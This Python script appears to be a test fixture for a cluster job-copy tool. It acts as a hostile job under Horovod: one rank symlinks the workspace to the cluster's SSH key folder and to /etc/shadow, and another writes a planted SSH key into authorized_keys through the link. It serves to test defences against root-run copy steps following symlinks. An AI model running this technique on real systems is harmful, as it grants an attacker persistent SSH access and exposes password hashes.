"""A hostile job (copy storage): on one host it leaves a symlink in the workspace that points at kit's own SSH
folder on the host; on another it writes a file through that name. A copy step that ran as root on the
hosts would follow the link and replace the cluster's authorized_keys with the job's. Also a link to the
host's /etc/shadow, which a copy step reading as root on the host would carry to the other hosts.

  hostile.py SSH_DIR    (the cluster's folder of keys on each host, e.g. /var/lib/kit/<name>/ssh)
"""

import os
import sys

import horovod.torch as hvd
import torch

hvd.init()
ssh_dir = sys.argv[1]
if hvd.rank() == 1:
    os.symlink(ssh_dir, "ckpt")
    os.symlink("/etc/shadow", "shadow-copy")
if hvd.rank() == 2:
    os.makedirs("ckpt", exist_ok=True)
    with open("ckpt/authorized_keys", "w") as f:
        f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHostileJobKeyHostileJobKeyHostileJobKey hostile\n")
hvd.allreduce(torch.zeros(1), name="done")
print(f"rank {hvd.rank()} planted its part", flush=True)
